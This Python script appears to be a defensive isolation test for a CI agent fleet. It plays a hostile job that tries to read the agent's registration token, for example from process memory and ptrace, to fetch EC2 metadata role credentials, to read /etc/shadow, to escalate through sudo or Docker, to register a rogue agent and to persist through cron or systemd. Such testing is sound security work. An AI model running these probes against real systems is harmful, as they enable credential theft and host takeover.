"""What a hostile job tries on its instance. Prints a line of JSON for each attempt, with its name and whether it succeeded.

Usage: hostile-job.py <name of the token's parameter> <region> <host of the Semaphore API> [--harmless]

Each attempt returns whether it succeeded. The second argument of @attempt says whether the attempt succeeds without isolation.
With strict isolation, no attempt may succeed. docs/security.md lists the attempts that succeed without isolation. Each of them
leaves the instance as it was: for example, an attempt to kill a process sends signal 0. Attempts that would change the instance
are UNTRIED: they are made with strict isolation only, and --harmless leaves them out.

The policies of the deployed fleet decide about calls of AWS. MiniStack evaluates them, and libs/iam-evaluator those for Auto Scaling.
"""

import ctypes
import functools
import json
import os
import re
import ssl
import subprocess
import sys
import time
import urllib.request

AGENT = "/opt/semaphore/agent"
# A pattern that does not match itself, so that a search finds the token, but not this program or its own command.
TOKEN = re.compile(rb"Registration-token-of-th[e]-sandbox")
METADATA = "http://169.254.169.254/latest"
METADATA_IPV6 = "http://[fd00:ec2::254]/latest"
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
ATTEMPTS = []
IS_ISOLATED = "AWS_CONTAINER_CREDENTIALS_FULL_URI" in os.environ
# How long to wait for the metadata service, or for a systemd of the user, in seconds. With isolation, there is neither.
PATIENCE = 3 if IS_ISOLATED else 10
UNTRIED = None
# A fleet of the same account.
OTHER_FLEET = "other-fleet"
OTHER_PROJECT = "00000000-0000-4000-8000-000000000000"
CACHE_BUCKET = "guest-semaphore-cache"


def attempt(name, without_isolation):
    """Registers an attempt. An UNTRIED one is made with strict isolation only."""

    def register(function):
        ATTEMPTS.append((name, without_isolation, function))
        return function

    return register


def command(line):
    done = subprocess.run(["bash", "-c", line], capture_output=True, timeout=20, stdin=subprocess.DEVNULL, check=False)
    return done.returncode == 0, done.stdout


def works(line):
    return command(line)[0]


def as_root(line):
    """Tries the command as this user, then with sudo."""
    return works(line) or works(f"sudo -n bash -c '{line}'")


@functools.cache
def agent_pid():
    return command("systemctl show --property=MainPID --value semaphore-agent")[1].decode().strip()


def finds_token(paths):
    for path in paths:
        try:
            with open(path, "rb") as file:
                if TOKEN.search(file.read(10_000_000)):
                    return True
        except OSError:
            pass
    return False


@attempt("read the token in the agent's configuration", True)
def _():
    return finds_token([f"{AGENT}/config.yaml"])


@attempt("find the token in any file", True)
def _():
    pattern = TOKEN.pattern.decode()
    return works(f"timeout 15 grep -rsqE {pattern} /opt /etc /run /var/log /var/lib/cloud /home --exclude=hostile-job.py")


@attempt("find the token with root's rights", True)
def _():
    return as_root(f"grep -sqE {TOKEN.pattern.decode()} {AGENT}/config.yaml")


@attempt("read the environment of the agent", True)
def _():
    return works(f"cat /proc/{agent_pid()}/environ")


@attempt("read the open files of the agent", True)
def _():
    return works(f"ls /proc/{agent_pid()}/fd")


@attempt("find the token in the memory of the agent", True)
def _():
    with open(f"/proc/{agent_pid()}/maps", encoding="utf-8") as maps, open(f"/proc/{agent_pid()}/mem", "rb") as memory:
        for line in maps:
            found = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
            if found:
                start, end = (int(part, 16) for part in found.groups())
                memory.seek(start)
                try:
                    if TOKEN.search(memory.read(min(end - start, 50_000_000))):
                        return True
                except (OSError, OverflowError):
                    pass
    return False


@attempt("trace the agent", True)
def _():
    ptrace = ctypes.CDLL(None).ptrace
    ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if ptrace(PTRACE_SEIZE, int(agent_pid()), None, None) != 0:
        return False
    ptrace(PTRACE_DETACH, int(agent_pid()), None, None)
    return True


@attempt("read the agent's program", True)
def _():
    return works(f"cat {AGENT}/agent")


@attempt("read the file with the credentials service's secrets", False)
def _():
    return as_root("cat /run/semaphore-job-credentials.json")


@attempt("read the file with the environment of the agent", False)
def _():
    return as_root("cat /run/semaphore-agent.env")


@attempt("read the environment of the first process", True)
def _():
    return as_root("cat /proc/1/environ")


def session(endpoint):
    request = urllib.request.Request(f"{endpoint}/api/token", method="PUT")
    request.add_header("X-aws-ec2-metadata-token-ttl-seconds", "60")
    return urllib.request.urlopen(request, timeout=PATIENCE).read().decode()


@attempt("open a session with the metadata service", True)
def _():
    return session(METADATA) != ""


@attempt("open a session with the metadata service over IPv6", True)
def _():
    return session(METADATA_IPV6) != ""


@attempt("ask the metadata service without a session", False)
def _():
    return urllib.request.urlopen(f"{METADATA}/meta-data/instance-id", timeout=PATIENCE).status == 200


@attempt("get the credentials of the instance's role", True)
def _():
    def get(path):
        request = urllib.request.Request(f"{METADATA}/meta-data/iam/security-credentials/{path}")
        request.add_header("X-aws-ec2-metadata-token", session(METADATA))
        return urllib.request.urlopen(request, timeout=PATIENCE).read().decode()

    return "SecretAccessKey" in get(get(""))


@attempt("reach the metadata service as root of a user namespace", True)
def _():
    header = "X-aws-ec2-metadata-token-ttl-seconds: 60"
    return works(f"unshare --user --map-root-user curl -sf -m {PATIENCE} -X PUT -H '{header}' {METADATA}/api/token")


@attempt("reach the metadata service from a container in the network of the instance", True)
def _():
    container = "unshare --user --map-root-user --mount --pid --ipc --uts --fork"
    return works(f"{container} curl -sf -m {PATIENCE} -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' {METADATA}/api/token")


# What Docker without root sets up: a container on a bridge, in a network namespace that slirp4netns connects as the job's user.
ON_A_BRIDGE = """
ip link add bridge0 type bridge && ip address add 172.17.0.1/16 dev bridge0 && ip link set bridge0 up
echo 1 >/proc/sys/net/ipv4/ip_forward
nft add table ip containers && nft add chain ip containers nat '{ type nat hook postrouting priority srcnat; }'
nft add rule ip containers nat ip saddr 172.17.0.0/16 masquerade
unshare --net sleep 15 &
container=$!
sleep 0.5
ip link add outside type veth peer name inside netns $container
ip link set outside master bridge0 && ip link set outside up
inside="nsenter --target $container --net"
$inside ip address add 172.17.0.2/16 dev inside && $inside ip link set inside up
$inside ip route add default via 172.17.0.1
for _ in $(seq 40); do ip link show tap0 2>/dev/null | grep -q LOWER_UP && break; sleep 0.1; done
result=$($inside curl -sf -m PATIENCE -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' METADATA/api/token)
kill $container
echo "$result"
[ -n "$result" ]
"""


@attempt("reach the metadata service from a container on a bridge network", True)
def _():
    script = ON_A_BRIDGE.replace("METADATA", METADATA).replace("PATIENCE", str(PATIENCE))
    namespaces = ["unshare", "--user", "--map-root-user", "--net", "bash", "-c", script]
    with subprocess.Popen(namespaces, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as inner:
        time.sleep(0.3)
        connect = ["slirp4netns", "--configure", "--mtu=65520", str(inner.pid), "tap0"]
        with subprocess.Popen(connect, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as network:
            output, errors = inner.communicate(timeout=30)
            network.terminate()
    if inner.returncode != 0:
        raise RuntimeError(errors.decode()[-300:])
    return True


@attempt("reach the metadata service with sudo", True)
def _():
    return works(f"sudo -n curl -sf -m {PATIENCE} -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' {METADATA}/api/token")


@attempt("change the packet filter", True)
def _():
    return as_root("nft add table inet hostile && nft delete table inet hostile")


@attempt("get credentials from the credentials service without its secret", False)
def _():
    return urllib.request.urlopen("http://127.0.0.1:7190/credentials", timeout=PATIENCE).status == 200


@functools.cache
def sessions():
    """The identities in AWS that the job can take: that of its environment, and that of the instance if it can get credentials."""
    import boto3  # pylint: disable=import-outside-toplevel

    session = boto3.Session(region_name=sys.argv[2])
    isolated = ["AWS_CONTAINER_CREDENTIALS_FULL_URI", "AWS_CONTAINER_AUTHORIZATION_TOKEN", "AWS_EC2_METADATA_DISABLED"]
    hidden = {name: os.environ.pop(name) for name in isolated if name in os.environ}
    try:
        instance = boto3.Session(region_name=sys.argv[2])
        return [session, *([instance] if hidden and instance.get_credentials() else [])]
    finally:
        os.environ.update(hidden)


def is_allowed(service, call):
    """Whether IAM allows one of the identities to make the call. Any error other than a refusal shows that IAM has allowed it."""
    from botocore.config import Config  # pylint: disable=import-outside-toplevel
    from botocore.exceptions import ClientError  # pylint: disable=import-outside-toplevel

    limits = {"connect_timeout": 5, "read_timeout": 20, "retries": {"total_max_attempts": 2}}
    s3 = {"addressing_style": "path", "us_east_1_regional_endpoint": "regional"}
    config = Config(**limits, s3=s3)
    for session in sessions():
        try:
            call(session.client(service, config=config))
            return True
        except ClientError as error:
            code = error.response["Error"]["Code"]
            if "AccessDenied" not in code and code != "403":
                return True
    return False


def instance_id():
    return command(f"sed -n s/^INSTANCE_ID=//p {AGENT}/instance.conf")[1].decode().strip()


@attempt("act in AWS with the instance's role", True)
def _():
    return any("ForJobs" not in session.client("sts").get_caller_identity()["Arn"] for session in sessions())


@attempt("read the token in Systems Manager", True)
def _():
    return is_allowed("ssm", lambda ssm: ssm.get_parameter(Name=sys.argv[1], WithDecryption=True))


@attempt("read the token of another fleet in Systems Manager", False)
def _():
    return is_allowed("ssm", lambda ssm: ssm.get_parameter(Name="/other/agent-token", WithDecryption=True))


@attempt("read the fleet's configuration in Systems Manager", True)
def _():
    return is_allowed("ssm", lambda ssm: ssm.get_parameter(Name="guest-fleet-config"))


@attempt("change the fleet's configuration in Systems Manager", False)
def _():
    return is_allowed("ssm", lambda ssm: ssm.put_parameter(Name="guest-fleet-config", Value="{}", Overwrite=False))


@attempt("mark an instance of the group", True)
def _():
    health = {"InstanceId": instance_id(), "HealthStatus": "Healthy"}
    return is_allowed("autoscaling", lambda group: group.set_instance_health(**health))


@attempt("terminate an instance of the group", UNTRIED)
def _():
    end = {"InstanceId": instance_id(), "ShouldDecrementDesiredCapacity": False}
    return is_allowed("autoscaling", lambda group: group.terminate_instance_in_auto_scaling_group(**end))


@attempt("write to the log streams of another fleet", True)
def _():
    stream = {"logGroupName": "/semaphore/agent", "logStreamName": f"{OTHER_FLEET}/i-0123456789abcdef0"}
    return is_allowed("logs", lambda logs: logs.create_log_stream(**stream))


@attempt("change how long logs are kept", False)
def _():
    retention = {"logGroupName": "/semaphore/agent", "retentionInDays": 1}
    return is_allowed("logs", lambda logs: logs.put_retention_policy(**retention))


@attempt("read the cache of another project", False)
def _():
    return is_allowed("s3", lambda s3: s3.get_object(Bucket=CACHE_BUCKET, Key=f"{OTHER_PROJECT}/gems"))


@attempt("change the cache of another project", False)
def _():
    return is_allowed("s3", lambda s3: s3.put_object(Bucket=CACHE_BUCKET, Key=f"{OTHER_PROJECT}/gems", Body=b""))


@attempt("list the cache of another project", False)
def _():
    return is_allowed("s3", lambda s3: s3.list_objects_v2(Bucket=CACHE_BUCKET, Prefix=OTHER_PROJECT))


def account():
    return sessions()[0].client("sts").get_caller_identity()["Account"]


@attempt("pass a role to a function", False)
def _():
    role = f"arn:aws:iam::{account()}:role/{OTHER_FLEET}-scalerLambdaRole"
    code = {"Runtime": "nodejs22.x", "Handler": "index.handler", "Code": {"ZipFile": b""}}
    return is_allowed("lambda", lambda functions: functions.create_function(FunctionName="hostile", Role=role, **code))


@attempt("assume the jobs' role of another fleet", False)
def _():
    role = f"arn:aws:iam::{account()}:role/{OTHER_FLEET}-instanceProfileRoleForJobs"
    return is_allowed("sts", lambda sts: sts.assume_role(RoleArn=role, RoleSessionName="hostile"))


def token_in_configuration():
    """The registration token if the job can read it, else a guess."""
    for line in ("cat", "sudo -n cat"):
        found = TOKEN.search(command(f"{line} {AGENT}/config.yaml")[1])
        if found:
            return found[0].decode()
    return "a-guess"


@attempt("register a second agent", True)
def _():
    api = f"https://{sys.argv[3]}/api/v1/self_hosted_agents"
    # Jobs can read the certificates that the system trusts.
    trusted = ssl.create_default_context(cafile="/etc/ssl/certs/ca-certificates.crt")

    def post(path, token, document):
        request = urllib.request.Request(f"{api}/{path}", data=json.dumps(document).encode(), method="POST")
        request.add_header("Authorization", f"Token {token}")
        request.add_header("Content-Type", "application/json")
        return urllib.request.urlopen(request, timeout=10, context=trusted).read()

    agent = {"name": "hostile-agent", "version": "v2.2.23", "os": "Linux", "arch": "amd64", "hostname": "hostile", "pid": 1}
    settings = {"single_job": False, "idle_timeout": 0, "interruption_grace_period": 0, "job_id": ""}
    registered = post("register", token_in_configuration(), {**agent, **settings})
    post("disconnect", json.loads(registered)["token"], {})
    return True


@attempt("run any command with sudo", True)
def _():
    return works("sudo -n true")


@attempt("become root with su", False)
def _():
    return works("su --command true root")


@attempt("be a member of Docker's group", True)
def _():
    return works("id -nG | grep -qw docker")


@attempt("connect to the machine's Docker daemon", True)
def _():
    connect = "import socket; socket.socket(socket.AF_UNIX).connect(\"/run/docker.sock\")"
    return works(f"python3 -c '{connect}'")


@attempt("mount a file system", True)
def _():
    return as_root("mount -t tmpfs tmpfs /mnt && umount /mnt")


@attempt("enter the namespaces of the first process", True)
def _():
    return as_root("nsenter --target 1 --mount true")


@attempt("read root's files", True)
def _():
    return as_root("cat /etc/shadow")


@attempt("read the system's log", True)
def _():
    return as_root("cat /var/log/syslog")


@attempt("create a unit of systemd", True)
def _():
    return as_root("touch /etc/systemd/system/hostile.service && rm /etc/systemd/system/hostile.service")


@attempt("start a unit of systemd as root", True)
def _():
    return as_root("systemd-run --quiet --wait true")


@attempt("start a service that outlives the agent", True)
def _():
    # Some systems let every user enable this. The attempt succeeds only if a systemd of the user then starts.
    is_up = f"for _ in $(seq {10 * PATIENCE}); do systemctl is-active --quiet user@$(id -u semaphore) && exit; sleep 0.1; done; exit 1"
    succeeded = as_root("loginctl enable-linger semaphore") and works(is_up)
    as_root("loginctl disable-linger semaphore")
    return succeeded


@attempt("start a systemd of one's own", UNTRIED)
def _():
    return works("systemctl --user is-system-running --wait") or works("systemctl start user@$(id -u).service")


@attempt("create a table of cron for root", True)
def _():
    return as_root("touch /etc/cron.d/hostile && rm /etc/cron.d/hostile")


@attempt("create a table of cron for oneself", True)
def _():
    return works("echo '0 0 1 1 * true' | crontab - && crontab -r")


def can_change(path):
    return as_root(f"test -w {path}")


for path, name in {
    f"{AGENT}/hooks/shutdown": "change the shutdown hook",
    f"{AGENT}/end-instance.sh": "change the script that ends the instance",
    f"{AGENT}/health-check.sh": "change the health check",
    f"{AGENT}/retirement-watch.sh": "change the retirement watch",
    f"{AGENT}/start.sh": "change the start script",
    f"{AGENT}/instance.conf": "change the file with the instance's id",
    "/etc/systemd/system/semaphore-agent.service": "change the agent's unit",
    "/opt/aws/amazon-cloudwatch-agent/etc/amazon-cloudwatch-agent.json": "change the configuration of the log agent",
    "/usr/local/bin": "change the programs that root runs",
}.items():
    attempt(name, True)(functools.partial(can_change, path))


@attempt("put a link where the log agent reads", True)
def _():
    return as_root(f"ln -s /etc/shadow {AGENT}/hostile.log && rm {AGENT}/hostile.log")


def can_signal(unit):
    pid = command(f"systemctl show --property=MainPID --value {unit}")[1].decode().strip()
    return pid not in ("", "0") and as_root(f"kill -0 {pid}")


@attempt("kill the retirement watch", True)
def _():
    return can_signal("semaphore-agent-retirement-watch")


@attempt("kill the credentials service", False)
def _():
    return can_signal("semaphore-job-credentials")


@attempt("stop the health check", True)
def _():
    timer = "semaphore-agent-health-check.timer"
    return as_root(f"systemctl stop {timer} && systemctl start {timer}")


def main():
    for name, without_isolation, function in ATTEMPTS:
        if without_isolation is UNTRIED and (not IS_ISOLATED or "--harmless" in sys.argv):
            continue
        try:
            succeeded, why = bool(function()), ""
        except Exception as error:  # pylint: disable=broad-except
            succeeded, why = False, repr(error)
        expected = False if IS_ISOLATED else without_isolation
        print(json.dumps({"name": name, "succeeded": succeeded, "expected": expected, "why": why}), flush=True)


if __name__ == "__main__":
    main()
